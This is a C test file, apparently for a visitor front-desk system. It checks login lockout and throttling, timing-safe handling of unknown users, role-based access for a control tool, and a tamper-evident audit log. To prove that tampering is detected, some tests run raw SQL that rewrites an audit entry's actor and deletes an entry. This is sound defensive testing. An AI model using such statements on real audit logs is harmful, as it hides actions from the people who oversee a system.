  g_autoptr(GPtrArray) staff = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  gint64 locks = 0;
  FdRole role;

  trust_now = g_get_real_time () / 1000;
  fd_store_set_clock (store, trust_clock, NULL);
  g_assert_cmpint (fd_store_add_staff (store, admin, "wang", "王前台", FD_ROLE_RECEPTIONIST, "246810", &error), >, 0);
  for (int i = 0; i < 5; i++)
    {
      g_assert_false (fd_store_authenticate_staff (store, "wang", "000000", &role, &error));
      g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
      g_clear_error (&error);
    }
  g_assert_null (fd_store_login (store, "wang", "246810", &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_LOCKED);
  g_clear_error (&error);
  fd_store_count_audit (store, "login.locked", &locks, NULL);
  g_assert_cmpint (locks, ==, 1);
  staff = fd_store_list_staff (store, admin, &error);
  for (guint i = 0; i < staff->len; i++)
    if (g_str_equal (((FdStaff *) staff->pdata[i])->username, "wang"))
      g_assert_cmpint (((FdStaff *) staff->pdata[i])->locked_until_ms, >, trust_now);

  /* frontdeskctl, a separate process, is paused too. */
  g_assert_cmpint (ctl (fd_store_get_path (store), "246810", &out, &err, "--lang", "zh_CN", "--user", "wang",
                        "audit", "list", NULL), ==, 1);
  g_test_message ("%s", err);
  g_assert_nonnull (strstr (err, "尝试"));

  /* After 30 s the right password works, and resets the count. */
  trust_now += 31 * 1000;
  wang = fd_store_login (store, "wang", "246810", &error);
  g_assert_no_error (error);
  g_assert_nonnull (wang);
  g_assert_cmpint (fd_store_staff_locked_until (store, "wang"), ==, 0);

  /* Locked again, an administrator lifts it. */
  for (int i = 0; i < 6; i++)
    fd_store_authenticate_staff (store, "wang", "000000", &role, NULL);
  g_assert_cmpint (fd_store_staff_locked_until (store, "wang"), >, 0);
  g_assert_false (fd_store_unlock_staff (store, wang, "wang", &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_clear_error (&error);
  g_assert_true (fd_store_unlock_staff (store, admin, "wang", &error));
  g_assert_cmpint (fd_store_staff_locked_until (store, "wang"), ==, 0);
}

typedef struct {
  FdStore *store;
  gint     refused;
} Attempt;

static gpointer
attempt_thread (gpointer data)
{
  Attempt *attempt = data;
  g_autoptr(GError) error = NULL;
  FdRole role;

  if (!fd_store_authenticate_staff (attempt->store, "wang", "000000", &role, &error) &&
      g_error_matches (error, FD_ERROR, FD_ERROR_LOCKED))
    g_atomic_int_inc (&attempt->refused);
  return NULL;
}

/* Finding 6: attempts made in parallel are counted before the password is
 * checked: of 12 at once, at most five are tried. */
static void
test_login_parallel (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  GThread *threads[12];
  Attempt attempt = { store, 0 };
  gint64 before = 0;
  gint64 tried = 0;

  g_assert_cmpint (fd_store_add_staff (store, admin, "wang", "王前台", FD_ROLE_RECEPTIONIST, "246810", NULL), >, 0);
  fd_store_count_audit (store, "staff.login-failed", &before, NULL);  /* fd_test_login's first try */
  for (guint i = 0; i < G_N_ELEMENTS (threads); i++)
    threads[i] = g_thread_new ("login", attempt_thread, &attempt);
  for (guint i = 0; i < G_N_ELEMENTS (threads); i++)
    g_thread_join (threads[i]);
  fd_store_count_audit (store, "staff.login-failed", &tried, NULL);
  g_assert_cmpint (tried - before, ==, 5);
  g_assert_cmpint (attempt.refused, ==, 7);
}

/* The fastest of four answers: the least disturbed by other work on the
 * machine. */
static gint64
fastest_login_us (FdStore    *store,
                  const char *username)
{
  gint64 fastest = G_MAXINT64;
  FdRole role;

  for (guint i = 0; i < 4; i++)
    {
      gint64 start = g_get_monotonic_time ();

      fd_store_authenticate_staff (store, username, "000000", &role, NULL);
      fastest = MIN (fastest, g_get_monotonic_time () - start);
    }
  return fastest;
}

/* Finding 6: an unknown name is answered no faster than a known one (the
 * password is checked against a hash either way: argon2id dominates, so
 * the ratio is near 1; the bound is loose for loaded machines), is not
 * written to the audit log, and many failures on one station, whatever
 * the names, pause the station's logins. */
static void
test_login_unknown_and_station (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autoptr(GPtrArray) audit = NULL;
  g_autoptr(GError) error = NULL;
  gint64 known, unknown;
  FdRole role;

  g_assert_cmpint (fd_store_add_staff (store, admin, "wang", "王前台", FD_ROLE_RECEPTIONIST, "246810", NULL), >, 0);
  fd_store_authenticate_staff (store, "nobody-warmup", "000000", &role, NULL);
  known = fastest_login_us (store, "wang");
  unknown = fastest_login_us (store, "nobody-here");
  g_test_message ("known %" G_GINT64_FORMAT " us, unknown %" G_GINT64_FORMAT " us", known, unknown);
  g_assert_cmpint (unknown * 2, >, known);
  audit = fd_store_list_audit (store, admin, 100, &error);
  for (guint i = 0; i < audit->len; i++)
    {
      FdAuditEntry *entry = audit->pdata[i];

      g_assert_null (strstr (entry->actor, "nobody"));
      g_assert_null (entry->subject != NULL ? strstr (entry->subject, "nobody") : NULL);
    }

  /* 11 wrong logins with different names: the station pauses, even for a
   * name it has not seen. */
  for (int i = 0; i < 11; i++)
    {
      g_autofree char *name = g_strdup_printf ("guess%d", i);

      fd_store_authenticate_staff (store, name, "000000", &role, NULL);
    }
  g_assert_false (fd_store_authenticate_staff (store, "admin", "000000", &role, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_LOCKED);
}

/* Finding 6: which roles may leave kiosk mode is the site's choice;
 * security and administrators by default, not receptionists. */
static void
test_kiosk_exit_roles (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autoptr(FdSession) security = fd_test_login (store, FD_ROLE_SECURITY);
  g_autoptr(FdSession) reception = fd_test_login (store, FD_ROLE_RECEPTIONIST);
  g_autoptr(GError) error = NULL;

  g_assert_false (fd_store_check_kiosk_exit (store, "test-receptionist", "1357", &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_clear_error (&error);
  g_assert_true (fd_store_check_kiosk_exit (store, "test-security", "1357", &error));
  g_assert_true (fd_store_change_setting (store, admin, "kiosk_exit_roles", "admin", &error));
  g_assert_false (fd_store_check_kiosk_exit (store, "test-security", "1357", &error));
  g_clear_error (&error);
  g_assert_true (fd_store_check_kiosk_exit (store, "test-admin", "1357", &error));
  g_assert_true (fd_store_change_setting (store, admin, "kiosk_exit_roles", "receptionist", &error));
  g_assert_true (fd_store_check_kiosk_exit (store, "test-receptionist", "1357", &error));
  g_assert_no_error (error);
  g_assert_nonnull (security);
  g_assert_nonnull (reception);
}

/* Finding 4: someone who leaves loses their login at once (their open
 * session too); roles change; the last administrator stays one. */
static void
test_staff_deactivate_and_role (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autoptr(FdSession) security = fd_test_login (store, FD_ROLE_SECURITY);
  g_autoptr(FdSession) demo = fd_store_login (store, "demo", "2468", NULL);
  g_autoptr(GPtrArray) watch = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;

  watch = fd_store_list_watch (store, security, &error);
  g_assert_no_error (error);
  g_clear_pointer (&watch, g_ptr_array_unref);
  g_assert_true (fd_store_set_staff_active (store, admin, "test-security", FALSE, &error));
  g_assert_no_error (error);
  g_assert_null (fd_store_login (store, "test-security", "1357", NULL));
  watch = fd_store_list_watch (store, security, &error);  /* the session still open */
  g_assert_null (watch);
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_clear_error (&error);

  /* A role change takes effect for an open session. */
  g_assert_true (fd_store_set_staff_role (store, admin, "demo", FD_ROLE_RECEPTIONIST, &error));
  g_assert_null (fd_store_list_staff (store, demo, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_clear_error (&error);

  /* test-admin is now the only active administrator. */
  g_assert_false (fd_store_set_staff_active (store, admin, "test-admin", FALSE, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_STATE);
  g_clear_error (&error);
  g_assert_false (fd_store_set_staff_role (store, admin, "test-admin", FD_ROLE_SECURITY, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_STATE);
  g_clear_error (&error);
  g_assert_cmpint (ctl (fd_store_get_path (store), "1357", &out, &err, "--lang", "en", "--user", "test-admin", "staff",
                        "deactivate", "test-admin", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "last active administrator"));
}

/* Finding 4: every frontdeskctl command that reads or changes visitor
 * data, hosts, settings or messages needs a login, and the core decides
 * by role; live badge tokens are never printed. */
static void
test_ctl_needs_login (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) reception = fd_test_login (store, FD_ROLE_RECEPTIONIST);
  g_autofree char *dir = g_path_get_dirname (fd_store_get_path (store));
  g_autofree char *pdf = g_build_filename (dir, "badge.pdf", NULL);
  const char *db = fd_store_get_path (store);
  gint64 visit = fd_test_add_visit (store, "李雷", "13812345678", fd_test_host_id (store, "王芳", NULL));
  g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT, visit);
  g_autoptr(FdVisit) stored = fd_store_get_visit (store, visit, NULL);
  const char *anyone[][6] = {
    { "visits", "list", NULL },
    { "alerts", "list", NULL },
    { "badge", "reissue", id, NULL },
    { "visits", "checkout", id, NULL },
    { "hosts", "notify", "--host", "王芳", "--channels", "email" },
    { "outbox", "list", NULL },
    { "housekeeping", NULL },
    { "notify", "test", "email", "x@example.com", NULL },
    { "visits", "message", id, "--message", "hi", NULL },
    { "badge", "pdf", id, pdf, NULL },
    { "invite", "add", "--name", "Anna", "--host", "王芳" },
  };
  const char *admin_only[][6] = {
    { "hosts", "notify", "--host", "王芳", "--channels", "email" },
    { "outbox", "list", NULL },
    { "housekeeping", NULL },
    { "notify", "test", "email", "x@example.com", NULL },
  };
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (anyone); i++)
    {
      g_autofree char *cmd_out = NULL;
      g_autofree char *cmd_err = NULL;

      g_test_message ("%s %s without a login", anyone[i][0], anyone[i][1]);
      g_assert_cmpint (ctl (db, NULL, &cmd_out, &cmd_err, "--lang", "en", anyone[i][0], anyone[i][1], anyone[i][2],
                            anyone[i][3], anyone[i][4], anyone[i][5], NULL), ==, 1);
      g_assert_nonnull (strstr (cmd_err, "needs a staff login"));
    }
  g_assert_false (g_file_test (pdf, G_FILE_TEST_EXISTS));
  for (guint i = 0; i < G_N_ELEMENTS (admin_only); i++)
    {
      g_autofree char *cmd_out = NULL;
      g_autofree char *cmd_err = NULL;

      g_test_message ("%s %s as a receptionist", admin_only[i][0], admin_only[i][1]);
      g_assert_cmpint (ctl (db, "1357", &cmd_out, &cmd_err, "--lang", "en", "--user", "test-receptionist",
                            admin_only[i][0], admin_only[i][1], admin_only[i][2], admin_only[i][3], admin_only[i][4],
                            admin_only[i][5], NULL), ==, 1);
      g_assert_nonnull (strstr (cmd_err, "Not allowed"));
    }

  /* Allowed to a receptionist: the list, but no token in it. */
  g_assert_cmpint (ctl (db, "1357", &out, &err, "--user", "test-receptionist", "visits", "list", "--json", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "李雷"));
  g_assert_null (strstr (out, stored->badge_token));
  g_assert_nonnull (reception);
}

static void
raw_sql (const char *path,
         const char *sql)
{
  sqlite3 *db = NULL;

  g_assert_cmpint (sqlite3_open (path, &db), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_exec (db, sql, NULL, NULL, NULL), ==, SQLITE_OK);
  sqlite3_close (db);
}

/* Finding 4: the audit log is tamper-evident.  frontdeskctl audit verify
 * passes on an untouched log; an entry edited or deleted with a database
 * tool is named; entries written before the chain existed are sealed. */
static void
test_audit_chain (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autoptr(FdSession) security = fd_test_login (store, FD_ROLE_SECURITY);
  const char *db = fd_store_get_path (store);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autoptr(GError) error = NULL;
  gint64 checked = 0, broken = -1;

  g_assert_true (fd_store_change_setting (store, admin, "company_name", "星河科技", &error));
  g_assert_true (fd_store_change_setting (store, admin, "overstay_hours", "6", &error));
  g_assert_true (fd_store_verify_audit (store, security, &checked, &broken, &error));
  g_assert_cmpint (broken, ==, 0);
  g_assert_cmpint (checked, >=, 4);
  g_assert_false (fd_store_verify_audit (store, NULL, &checked, &broken, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_clear_error (&error);
  g_assert_cmpint (ctl (db, "1357", &out, &err, "--lang", "en", "--user", "test-security", "audit", "verify", NULL),
                   ==, 0);
  g_assert_nonnull (strstr (out, "intact"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* Someone hides who changed the overstay hours. */
  raw_sql (db, "UPDATE audit_log SET actor = 'nobody' WHERE action = 'setting.change' AND subject = 'overstay_hours'");
  {
    g_autofree char *changed = NULL;
    gint64 id = 0;
    sqlite3 *raw = NULL;
    sqlite3_stmt *stmt = NULL;

    sqlite3_open (db, &raw);
    sqlite3_prepare_v2 (raw, "SELECT id FROM audit_log WHERE actor = 'nobody'", -1, &stmt, NULL);
    g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
    id = sqlite3_column_int64 (stmt, 0);
    sqlite3_finalize (stmt);
    sqlite3_close (raw);
    changed = g_strdup_printf ("entry %" G_GINT64_FORMAT " ", id);
    g_assert_cmpint (ctl (db, "1357", &out, &err, "--lang", "en", "--user", "test-security", "audit", "verify",
                          NULL), ==, 1);
    g_test_message ("%s", err);
    g_assert_nonnull (strstr (err, changed));
  }
}

/* Entries from before the chain are sealed when the store opens; a
 * deleted entry is named by the one after it. */
static void
test_audit_chain_legacy_and_delete (void)
{
  g_autofree char *db = fd_test_temp_db ();
  g_autoptr(GError) error = NULL;
  gint64 checked = 0, broken = -1;

  {
    g_autoptr(FdStore) store = fd_store_open (db, &error);

    g_assert_no_error (error);
    fd_store_audit (store, "a", "one", NULL, NULL, NULL);
  }
  raw_sql (db, "UPDATE audit_log SET chain = NULL; "
               "INSERT INTO audit_log (at_ms, actor, action) VALUES (1, 'b', 'two'), (2, 'c', 'three')");
  {
    g_autoptr(FdStore) store = fd_store_open (db, &error);
    g_autoptr(FdSession) station = fd_session_new_system ();

    g_assert_no_error (error);
    fd_store_audit (store, "d", "four", NULL, NULL, NULL);
    g_assert_true (fd_store_verify_audit (store, station, &checked, &broken, &error));
    g_assert_cmpint (checked, ==, 4);
    g_assert_cmpint (broken, ==, 0);

    raw_sql (db, "DELETE FROM audit_log WHERE action = 'two'");
    g_assert_true (fd_store_verify_audit (store, station, &checked, &broken, &error));
    g_assert_cmpint (broken, ==, 3);  /* "three" no longer follows its predecessor */
  }
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/trust/secrets-not-audited", test_secrets_not_audited);
  g_test_add_func ("/trust/settings-checked", test_settings_checked);
  g_test_add_func ("/trust/retention-overflow", test_retention_overflow);
  g_test_add_func ("/trust/topics-parse", test_topics_parse);
  g_test_add_func ("/trust/import-control-lang", test_import_control_lang);
  g_test_add_func ("/trust/export-far-date", test_export_far_date);
  g_test_add_func ("/trust/mo-damaged", test_mo_damaged);
  g_test_add_func ("/trust/webhooks", test_webhooks);
  g_test_add_func ("/trust/mail-needs-tls", test_mail_needs_tls);
  g_test_add_func ("/trust/correct-and-search", test_correct_and_search);
  g_test_add_func ("/trust/key-file", test_key_file);
  g_test_add_func ("/trust/reveal-and-mask", test_reveal_and_mask);
  g_test_add_func ("/trust/exports-and-files", test_exports_and_files);
  g_test_add_func ("/trust/purge-leaves-no-trace", test_purge_leaves_no_trace);
  g_test_add_func ("/trust/login-throttle", test_login_throttle);
  g_test_add_func ("/trust/login-parallel", test_login_parallel);
  g_test_add_func ("/trust/login-unknown-and-station", test_login_unknown_and_station);
  g_test_add_func ("/trust/kiosk-exit-roles", test_kiosk_exit_roles);
  g_test_add_func ("/trust/staff-deactivate-and-role", test_staff_deactivate_and_role);
  g_test_add_func ("/trust/ctl-needs-login", test_ctl_needs_login);
  g_test_add_func ("/trust/audit-chain", test_audit_chain);
  g_test_add_func ("/trust/audit-chain-legacy-and-delete", test_audit_chain_legacy_and_delete);
  return g_test_run ();
}
